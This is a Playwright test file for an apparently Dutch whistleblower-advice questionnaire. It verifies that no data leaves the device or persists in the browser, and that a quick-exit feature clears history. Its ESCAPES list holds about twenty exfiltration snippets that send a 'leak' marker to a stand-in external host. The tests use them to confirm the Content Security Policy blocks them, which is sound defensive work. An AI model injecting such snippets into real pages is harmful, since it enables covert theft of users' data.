"""No trace: nothing leaves the device after the page has loaded, nothing stays on it, and leaving wipes the rest."""

from __future__ import annotations

import subprocess

import pytest
from conftest import CHROMIUM, QUIET
from playwright.sync_api import Error
from running import until
from walking import answer_all, arrive, choose, press, settled, tab

ANSWERS = {
    "concerns": ["misconduct"],
    "reporter": "contractor",
    "misconduct_kind": "crime_by_official",
    "privacy": "outside_organisation",
    "organisation": "ienw",
}


@pytest.mark.parametrize("language", ["nl", "en"])
def test_after_the_page_has_loaded_not_one_request_leaves_the_device(chromium, site, language):
    with tab(chromium) as page:
        arrive(page, site, language)
        page.requests.clear()
        asked = len(site.asked)
        answer_all(page, ANSWERS)
        press(page, "change:reporter")
        choose(page, "reporter", ["employee"])
        press(page)
        page.go_back()
        page.go_back()
        page.go_forward()
        page.go_forward()
        for _ in range(12):
            if page.locator("main .ww-do").count():
                break
            page.locator("main .ww-control").first.check()
            press(page)
        page.wait_for_selector(".ww-do")
        assert page.requests == []
        assert site.asked[asked:] == []
        assert page.wrong == []
        assert page.url == site.address + {"nl": "/vragen", "en": "/en/questions"}[language]


def test_the_questionnaire_goes_on_when_the_server_and_the_network_are_gone(chromium, site):
    with tab(chromium) as page:
        arrive(page, site)
        page.context.set_offline(True)
        answer_all(page, ANSWERS)
        assert page.locator(".ww-do").count() == 1


def test_a_page_whose_script_does_not_come_says_that_answers_go_to_the_server(chromium, site, library):
    with tab(chromium) as page:
        page.route("**/graph.js", lambda route: route.abort())
        page.goto(site.address + "/vragen")
        page.wait_for_function("!document.querySelector('main button').disabled")
        assert page.locator("#mode").inner_text().strip() == library.texts.interface["nl"]["mode_server"]
        page.scripted = False
        answer_all(page, ANSWERS)
        assert page.locator(".ww-do").count() == 1


@pytest.mark.parametrize(
    ("part", "mode"), [("*.woff2", "device"), ("questionnaire.js", "server"), ("graph.js", "server")]
)
@pytest.mark.parametrize("how", ["refused", "never answered"])
def test_what_does_not_come_decides_nothing_but_what_it_must(chromium, site, part, mode, how):
    """Fonts are often blocked at work: answers stay on the device all the same. And nobody waits for ever."""
    with tab(chromium) as page:
        page.route(f"**/{part}", lambda route: route.abort() if how == "refused" else None)
        page.goto(site.address + "/vragen", wait_until="commit")
        if (how, mode) == ("never answered", "server"):
            page.wait_for_selector('#mode[data-mode="wait"]')
            page.clock.fast_forward(26_000)
        page.wait_for_selector(f'#mode[data-mode="{mode}"]')
        assert page.locator("main button").is_enabled()


def test_nobody_can_begin_before_it_is_known_where_answers_go(chromium, site, library):
    with tab(chromium) as page:
        page.route("**/graph.js", lambda route: None)
        page.goto(site.address + "/vragen", wait_until="commit")
        page.wait_for_selector('#mode[data-mode="wait"]')
        assert page.locator("main button").is_disabled()
        assert page.locator("#mode").inner_text().strip() == library.texts.interface["nl"]["mode_wait"]


def test_no_cookie_and_no_storage(chromium, site):
    with tab(chromium) as page:
        arrive(page, site)
        answer_all(page, ANSWERS)
        assert page.context.cookies() == []
        kept = page.evaluate("[localStorage.length, sessionStorage.length, document.cookie]")
        assert kept == [0, 0, ""]
        assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0


def put(kind, before, after=""):
    """A script that puts an element on the page."""
    return f"{{ const one = document.createElement('{kind}'); {before}; document.body.append(one); {after} }}"


ESCAPES = {
    "fetch": "fetch(THERE).catch(() => {})",
    "fetch to us": "fetch('/vragen?leak').catch(() => {})",
    "beacon": "navigator.sendBeacon(THERE, 'leak')",
    "image": "new Image().src = THERE",
    "websocket": "new WebSocket(THERE.replace('http', 'ws'))",
    "event source": "new EventSource(THERE)",
    "style": put("link", "one.rel = 'stylesheet'; one.href = THERE"),
    "prefetch": put("link", "one.rel = 'prefetch'; one.href = THERE"),
    "preload": put("link", "one.rel = 'preload'; one.as = 'image'; one.href = THERE"),
    "background": "document.body.style.backgroundImage = `url(${THERE})`",
    "frame": put("iframe", "one.src = THERE"),
    "object": put("object", "try { one.data = THERE } catch {}"),
    "video": put("video", "one.src = THERE", "one.load()"),
    "form": put("form", "one.action = THERE; one.method = 'post'", "one.submit()"),
    "form to us": put("form", "one.action = '/vragen?leak'; one.method = 'post'", "one.submit()"),
    "ping": put("a", "one.href = '/'; one.target = '_blank'; one.ping = THERE", "one.click()"),
    "prefetch of a name": put("link", "one.rel = 'dns-prefetch'; one.href = THERE"),
    "font": "new FontFace('leak', `url(${THERE})`).load().catch(() => {})",
    "import": "import(THERE).catch(() => {})",
    "worker": "try { new Worker(THERE) } catch {}",
    "service worker": "navigator.serviceWorker?.register('/static/x.js').catch(() => {})",
}


# What leaves no request to count where nothing stops it: a name is looked up elsewhere, a worker must be our own.
SILENT = {"prefetch of a name", "worker", "service worker", "preload"}
LEADS_AWAY = {"form", "form to us"}


def attempt(chromium, site, elsewhere, ways, settle, **settings):
    """Let a hostile script try these ways out: those that lead away each in a tab of its own, the others in one.

    `settle` gets the page and the ways that were tried in it, before the page is closed.
    """
    for together in (sorted(set(ways) - LEADS_AWAY), *([one] for one in sorted(LEADS_AWAY))):
        with tab(chromium, **settings) as page:
            arrive(page, site)
            for way in together:
                script = ESCAPES[way].replace("leak", mark(way))
                page.evaluate(f"() => {{ const THERE = '{elsewhere.address}/{mark(way)}'; {script} }}")
            settle(page, together)


def mark(way):
    """What stands in the address of whatever is sent by a way."""
    return f"leak-{list(ESCAPES).index(way)}-"


def came(ways, *served):
    """The ways out by which a request arrived."""
    asked = [f"{path}?{query}" for one in served for _, path, query in one.asked]
    return {way for way in ways if any(mark(way) in one for one in asked)}


def test_a_script_that_got_in_could_not_send_an_answer_out(chromium, site, elsewhere):
    """What a hostile script would try, run in the page itself. docs/decisions/009 says which ways stay."""
    site.asked.clear(), elsewhere.asked.clear()
    attempt(chromium, site, elsewhere, list(ESCAPES), lambda page, _: page.wait_for_timeout(500))
    assert came(ESCAPES, site, elsewhere) == set()


def test_without_the_policy_each_way_out_would_be_open(chromium, site, elsewhere):
    site.asked.clear(), elsewhere.asked.clear()

    def arrived(_, together):
        assert until(lambda: came(together, site, elsewhere) == {*together})

    attempt(chromium, site, elsewhere, sorted(set(ESCAPES) - SILENT), arrived, bypass_csp=True)


def test_a_text_cannot_become_markup_or_code(chromium, site):
    with tab(chromium) as page:
        arrive(page, site)
        for attempt in (
            "document.body.innerHTML = '<b>x'",
            "eval('1')",
            "new Function('1')",
            "document.write('x')",
            "new DOMParser().parseFromString('<b>x', 'text/html')",
        ):
            # What a test evaluates may do more than a page may; what it leaves to a timer may not.
            tried = f"try {{ {attempt}; done('done') }} catch {{ done('refused') }}"
            assert page.evaluate(f"() => new Promise((done) => setTimeout(() => {{ {tried} }}))") == "refused"


def pages_behind(page):
    """What Back and Forward show: the address and the text of every entry that still exists."""
    found = []
    session = page.context.new_cdp_session(page)
    history = session.send("Page.getNavigationHistory")
    for entry in history["entries"]:
        session.send("Page.navigateToHistoryEntry", {"entryId": entry["id"]})
        found.append((entry["url"], *at_rest(page)))
    return history["currentIndex"], found


def at_rest(page):
    """Text and title of a page, once it stays where it is: an entry may lead away at once."""
    for _ in range(20):
        page.wait_for_timeout(300)
        before = page.url
        try:
            seen = page.evaluate("document.body.innerText"), page.title()
        except Error:
            continue  # it was just leading away
        if page.url == before:
            return seen
    raise AssertionError("the page keeps moving")


FAR = ["at the start", "half way", "at the end", "gone back", "begun again", "reloaded", "come back"]


@pytest.mark.parametrize(("how", "far"), [*(("button", far) for far in FAR), *(("shift", far) for far in FAR[1::4])])
def test_leaving_wipes_everything_and_back_shows_nothing(chromium, site, elsewhere, how, far):
    """By the door a person comes in: another site, the start page, the questions, a link in the foot of the page."""
    with tab(chromium) as page:
        page.goto(f"{elsewhere.address}/before")
        page.goto(f"{site.address}/")
        settled(page).locator('.ww-footer a[href="/toegankelijkheid"]').click()
        page.wait_for_url("**/toegankelijkheid")
        settled(page).locator(".ww-brand").click()
        page.locator(".ww-start").click()
        page.wait_for_selector('#mode[data-mode="device"]')
        labels = []
        if far != "at the start":
            answer_all(page, ANSWERS, lambda step: labels.append(page.locator("main h1").inner_text().splitlines()[-1]))
        if far == "gone back":
            page.go_back()
            page.go_back()
        if far == "begun again":
            press(page, "again")
            page.wait_for_selector("#mode")
            page.go_forward()
        if far in ("reloaded", "come back"):
            page.reload() if far == "reloaded" else page.goto(f"{elsewhere.address}/other") and page.go_back()
            page.wait_for_selector('#mode[data-mode="device"]')
            press(page)
        if how == "button":
            page.locator("#exit").click()
        else:
            for _ in range(3):
                page.keyboard.press("Shift")
        page.wait_for_url(f"{elsewhere.address}/")
        current, entries = pages_behind(page)
        assert [url for url, _, _ in entries[: current + 1]] == [
            "about:blank",
            f"{elsewhere.address}/before",
            f"{elsewhere.address}/",
        ]
        assert {text for _, text, _ in entries[current + 1 :]} <= {"Sunny"}, "Forward leads away from us too"
        for _, text, title in entries:
            assert not any(label in text or label in title for label in labels)


def test_a_link_to_a_page_of_ours_leaves_one_entry_in_the_history(chromium, site):
    with tab(chromium) as page:
        page.goto("about:blank")
        arrive(page, site)
        answer_all(page, ANSWERS)
        settled(page).locator(".ww-languages a").click()
        page.wait_for_url("**/en/questions")
        page.wait_for_selector('#mode[data-mode="device"]')
        assert page.locator("main .ww-control").count() == 0
        page.locator(".nl-skip-link").focus()
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "main"
        assert page.url.endswith("/en/questions")
        current, entries = pages_behind(page)
        assert [url for url, _, _ in entries[: current + 1]] == ["about:blank", f"{site.address}/en/questions"]


def test_shift_in_a_word_or_too_slowly_does_not_leave(chromium, site):
    with tab(chromium) as page:
        arrive(page, site)
        for key in ("Shift", "Shift", "a", "Shift", "a"):
            page.keyboard.press(key)
        page.evaluate(
            """() => [0, 2000, 5001].forEach((time) => {
                const press = new KeyboardEvent("keydown", { key: "Shift" });
                Object.defineProperty(press, "timeStamp", { value: time });
                dispatchEvent(press);
            })"""
        )
        page.wait_for_timeout(200)
        assert page.url.endswith("/vragen")
        assert page.locator("main h1").count() == 1


def test_more_than_three_times_shift_does_not_go_further_back(chromium, site, elsewhere):
    with tab(chromium) as page:
        page.goto(f"{elsewhere.address}/before")
        arrive(page, site)
        answer_all(page, ANSWERS)
        page.evaluate(
            "for (let n = 0; n < 7; n++) dispatchEvent(new KeyboardEvent('keydown', { key: 'Shift', bubbles: true }))"
        )
        page.wait_for_url(f"{elsewhere.address}/")
        current, entries = pages_behind(page)
        assert [url for url, _, _ in entries[:current]] == ["about:blank", f"{elsewhere.address}/before"]


def test_leaving_needs_no_server_of_ours(chromium, site, elsewhere):
    with tab(chromium) as page:
        arrive(page, site)
        answer_all(page, ANSWERS)
        page.route(f"{site.address}/**", lambda route: route.abort())
        page.locator("#exit").click()
        page.wait_for_url(f"{elsewhere.address}/")


def test_a_page_kept_for_back_shows_no_answers(chromium, site, elsewhere):
    """Somebody goes to another site from the result, and a colleague presses Back."""
    with tab(chromium) as page:
        arrive(page, site)
        answer_all(page, ANSWERS)
        page.goto(f"{elsewhere.address}/other")
        page.go_back()
        page.wait_for_timeout(500)
        assert page.locator(".ww-do").count() == 0
        assert page.locator("h1").inner_text() in ("Voordat u begint",)


def test_links_to_other_sites_open_apart_and_tell_them_nothing(chromium, site):
    with tab(chromium) as page:
        arrive(page, site)
        answer_all(page, ANSWERS)
        links = page.locator("main a[href^=http]")
        assert links.count() > 0
        for number in range(links.count()):
            link = links.nth(number)
            assert link.get_attribute("target") == "_blank"
            assert link.get_attribute("rel") == "noopener noreferrer"
            assert "nieuw venster" in link.text_content()
            assert link.get_attribute("href") in link.text_content()


def traces(folder, words):
    """Which files of a browser profile hold one of these words, in the ways a browser writes text."""
    found = set()
    for path in folder.rglob("*"):
        if path.is_file():
            body = path.read_bytes()
            for word in words:
                if word.encode() in body or word.encode("utf-16-le") in body:
                    found.add((path.relative_to(folder).as_posix(), word))
    return found


def test_after_a_walk_and_a_clean_close_no_file_of_the_browser_holds_an_answer(playwright, site, library, tmp_path):
    """The forensic test, with a search for the organisation typed in. Where answers are planted, it finds them."""
    profile = tmp_path / "profile"
    labels = library.texts.questions
    words = [
        "crime_by_official",
        "outside_organisation",
        labels["misconduct_kind"]["nl"].answers["crime_by_official"],
        labels["privacy"]["nl"].answers["outside_organisation"],
        "Infrastructuur en Waterstaat",
        "zoekwoord-7f3a",
    ]
    context = playwright.chromium.launch_persistent_context(str(profile), executable_path=CHROMIUM, args=QUIET)
    context.clock.install()  # a press waits for the clock of the page, which tests run
    page = context.pages[0]
    arrive(page, site)

    def search(step):
        if step == "organisation":
            page.locator("#q").fill("zoekwoord-7f3a")
            page.locator("#q").fill("infra")

    answer_all(page, ANSWERS, search)
    page.wait_for_selector(".ww-do")
    page.go_back()
    page.go_back()
    page.wait_for_timeout(1500)
    context.close()
    assert traces(profile, words) == set()


@pytest.mark.slow
@pytest.mark.parametrize("private", [True, False], ids=["private window", "ordinary window"])
def test_only_a_private_window_keeps_sent_answers_off_the_disk(playwright, site, tmp_path, private):
    """A form that is sent stays in the browser's list of tabs to restore. The page says so; nobody else can."""
    profile = tmp_path / "profile"
    switches = [*QUIET, "--headless=new", f"--user-data-dir={profile}", "--remote-debugging-port=0"]
    running = subprocess.Popen(
        [CHROMIUM, *switches, *(["--incognito"] if private else []), "about:blank"], stderr=subprocess.PIPE, text=True
    )
    told = (line.split(" on ")[1] for line in running.stderr if line.startswith("DevTools listening on"))
    browser = playwright.chromium.connect_over_cdp(next(told).strip())
    browser.contexts[0].clock.install()
    page = browser.contexts[0].pages[0]
    page.route("**/questionnaire.js", lambda route: route.abort())
    arrive(page, site, javascript=False)
    answer_all(page, ANSWERS)
    page.wait_for_selector(".ww-do")
    page.wait_for_timeout(2500)
    browser.new_browser_cdp_session().send("Browser.close")
    running.communicate(timeout=30)
    found = traces(profile, ["crime_by_official", "outside_organisation"])
    assert {path.split("/")[1] for path, _ in found} == (set() if private else {"Sessions"})


def test_the_forensic_test_finds_what_a_careless_page_leaves(playwright, site, tmp_path):
    profile = tmp_path / "profile"
    context = playwright.chromium.launch_persistent_context(str(profile), executable_path=CHROMIUM, args=QUIET)
    page = context.pages[0]
    arrive(page, site)
    page.evaluate("history.pushState('crime_by_official', '', '?crime_by_official')")
    page.wait_for_timeout(1500)
    context.close()
    assert traces(profile, ["crime_by_official"])
